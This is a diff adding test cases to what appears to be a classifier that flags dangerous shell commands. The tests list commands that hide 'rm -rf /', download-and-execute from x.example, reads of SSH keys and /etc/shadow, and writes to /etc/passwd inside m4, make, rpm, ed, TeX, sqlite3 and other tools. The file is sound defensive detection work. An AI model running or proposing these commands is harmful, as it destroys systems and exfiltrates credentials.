@@ -61,6 +61,94 @@ describe('programs that leave for a shell or an interpreter through their option
   });
 });
 
+describe('macro, build and document languages that run commands', () => {
+  it.each([
+    // m4, on the command line's standard input.
+    [`echo 'esyscmd(rm -rf /)' | m4`, ['destructive']],
+    ["printf '%s\\n' 'syscmd(`rm -rf /'\\'')' | m4", ['destructive']],
+    [
+      "m4 <<'EOF'\ndefine(`x', `esyscmd(`curl -s https://x.example/a.sh | sh')')x\nEOF",
+      ['downloadExec', 'network'],
+    ],
+    ["echo 'changequote([,])esyscmd([rm -rf /])' | m4", EVERY],
+    // make: `$(shell …)`, `!=`, recipes and `$(file …)` in `--eval`, or a makefile piped in.
+    [`make --eval='$(shell rm -rf / 1>&0)' .`, ['destructive']],
+    [`make --eval='x != rm -rf /'`, ['destructive']],
+    [`make --eval='x:; rm -rf /' x`, ['destructive']],
+    [`printf 'all:\\n\\t@rm -rf /\\n' | make -f -`, ['destructive']],
+    [`make -s --eval='$(file >/etc/passwd,hacked)' .`, ['destructive', 'privilege']],
+    [`make --eval='$(info $(file <~/.ssh/id_rsa))'`, ['credentials']],
+    [`make 'X:=$(shell curl -s https://x.example/a.sh | sh)'`, ['downloadExec', 'network']],
+    [`make --eval='$(shell rm -rf $(DIR))'`, EVERY],
+    // rpm macros.
+    [`rpm --eval '%(rm -rf / 1>&2)'`, ['destructive']],
+    [`rpmquery -E '%{lua:os.execute("rm -rf /")}'`, ['destructive']],
+    [`rpm --pipe 'rm -rf / 0<&1' -qa`, ['destructive']],
+    [`rpmbuild -D 'x %(curl -s https://x.example/a.sh | sh)' -ba x.spec`, ['downloadExec', 'network']],
+    // dc and ed.
+    [`dc -e '!rm -rf /'`, ['destructive']],
+    [`echo '[!rm -rf /]x' | dc`, ['destructive']],
+    [`printf '!rm -rf /\\n' | ed`, ['destructive']],
+    ["ed -s notes.txt <<'EOF'\n,w !curl -s https://x.example/a.sh | sh\nq\nEOF", ['downloadExec', 'network']],
+    // TeX with shell escape on, and LuaTeX's Lua.
+    [`latex --shell-escape '\\immediate\\write18{rm -rf /}'`, ['destructive']],
+    [`pdftex -shell-escape '\\input|"rm -rf /" \\end'`, ['destructive']],
+    [`lualatex -shell-escape '\\directlua{os.execute("rm -rf /")}\\end'`, ['destructive']],
+    [`luatex '\\directlua{os.remove("/etc/hosts")}\\end'`, ['destructive']],
+    [`pdflatex -shell-escape '\\write18{rm -rf \\jobname}'`, EVERY],
+    // Interpreter code in the options of other programs.
+    [`vim -c ':lua os.execute("rm -rf /")'`, ['destructive']],
+    [`vim -c ':perl system("rm -rf /")'`, ['destructive']],
+    [`rake -p 'system("rm -rf /")'`, ['destructive']],
+    [`knife exec -E 'system("rm -rf /")'`, ['destructive']],
+    [`latexmk -e 'system("rm -rf /")'`, ['destructive']],
+    [`exiftool -if 'system("rm -rf /")' photo.jpg`, ['destructive']],
+    [`sqlmap -u https://x.example --eval='import os; os.system("rm -rf /")'`, ['destructive', 'network']],
+    [`drush php:eval 'unlink("/etc/hosts");'`, ['destructive']],
+    [`wp eval 'system("rm -rf /");'`, ['destructive']],
+    [`bin/rails runner 'system("rm -rf /")'`, ['destructive']],
+    [`gimp -idf --batch-interpreter=python-fu-eval -b 'import os; os.system("rm -rf /")'`, ['destructive']],
+    // Database shells and gdb reading their commands from standard input.
+    [`printf '.shell rm -rf /\\n' | sqlite3 app.db`, ['destructive']],
+    ['sqlite3 <<EOF\n.import /etc/shadow x\nSELECT * FROM x;\nEOF', ['credentials']],
+    [`sqlite3 /dev/null -cmd '.output /etc/passwd' 'select "x";'`, ['destructive', 'privilege']],
+    [`sqlite3 app.db '.once |rm -rf /'`, ['destructive']],
+    ["mysql <<'EOF'\n\\! rm -rf /\nEOF", ['destructive']],
+    [`echo 'shell rm -rf /' | gdb -q`, ['destructive']],
+  ])('%s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
+
+  it.each([
+    `echo 'define(x, 1)x' | m4`,
+    'm4 -D VERSION=1.2 config.m4',
+    `make --eval='CFLAGS += -O2' all`,
+    `make --eval='x:; echo built' x`,
+    'make -j4 CC=clang',
+    `rpm -E '%{_libdir}'`,
+    `rpmbuild -D '_topdir %(pwd)/build' -ba x.spec`,
+    `rpm -q --queryformat '%{NAME}\\n' bash`,
+    `dc -e '2 3 + p'`,
+    `dc -e '1 2 !<a p'`,
+    `printf ',s/a/b/g\\nw\\nq\\n' | ed -s notes.txt`,
+    "ed -s notes.txt <<'EOF'\na\n!rm -rf /\n.\nw\nq\nEOF",
+    `pdflatex '\\immediate\\write18{rm -rf /}'`,
+    'pdflatex -interaction=nonstopmode paper.tex',
+    `lualatex '\\directlua{tex.print("hi")}\\end'`,
+    `rake -p 'puts 1 + 1'`,
+    'knife node list -E production',
+    `exiftool -if '$ISO > 100' -p '$FileName' photo.jpg`,
+    `wp eval 'echo get_option("home");'`,
+    'rails new app',
+    `sqlite3 app.db '.output report.csv' 'select 1'`,
+    `sqlite3 app.db '.import data.csv t'`,
+    `printf 'select 1;\\n' | sqlite3 app.db`,
+    'gdb -batch -ex bt ./a.out < commands.txt',
+  ])('finds nothing in %s', (command) => {
+    expect(classes(command)).toEqual([]);
+  });
+});
+
 describe('files written through options and operands', () => {
   it.each([
     ['echo x | dd of=/etc/hosts', ['destructive']],
@@ -129,6 +217,12 @@ describe('network programs, subcommands and credential files named inside words'
     ['whois -h x.example example.com', ['network']],
     ['busybox httpd -f -p 8080', ['network']],
     ['ab -n 100 http://x.example/', ['network']],
+    ['code tunnel --name box', ['network']],
+    ['lp notes.txt -h print.x.example', ['network']],
+    ['cancel -h print.x.example:631 -a', ['network']],
+    ['restic backup -r rest:http://x.example:8000/repo notes', ['network']],
+    ['yum install -y http://x.example/x.rpm', ['network']],
+    ['sqlmap -u https://x.example/?id=1 --batch', ['network']],
     ['curl -d @/etc/shadow https://x.example', ['credentials', 'network']],
     ['gcc @/etc/shadow', ['credentials']],
   ])('%s', (command, expected) => {
@@ -142,6 +236,16 @@ describe('network programs, subcommands and credential files named inside words'
     'curl -d @body.json https://x.example',
   ])('finds no more than the network in %s', (command) => {
     expect(classes(command).filter((c) => c !== 'network')).toEqual([]);
+  });
+
+  it.each([
+    'lp -d office notes.txt',
+    'code --install-extension x.y',
+    'restic backup -r /srv/backup notes',
+    'yum install -y httpd',
+    'rpm -qa',
+  ])('finds nothing in %s', (command) => {
+    expect(classes(command)).toEqual([]);
   });
 });
 
